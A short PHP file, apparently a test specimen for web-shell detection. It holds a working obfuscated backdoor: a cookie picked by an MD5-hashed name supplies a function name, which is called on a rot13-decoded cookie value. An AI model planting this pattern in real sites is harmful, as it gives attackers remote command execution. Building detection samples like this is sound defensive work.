<?php
// Test sample (never run): a copy of the cookie array is walked; the cookie whose name
// matches a hash is called as a function on the last cookie's decoded value.
$jar = $_COOKIE;
foreach ($jar as $name => $handler) {
    if (md5($name) === '0cc175b9c0f1b6a831c399e269772661') {
        $payload = array_pop($jar);
        print @$handler(str_rot13($payload));
    }
}
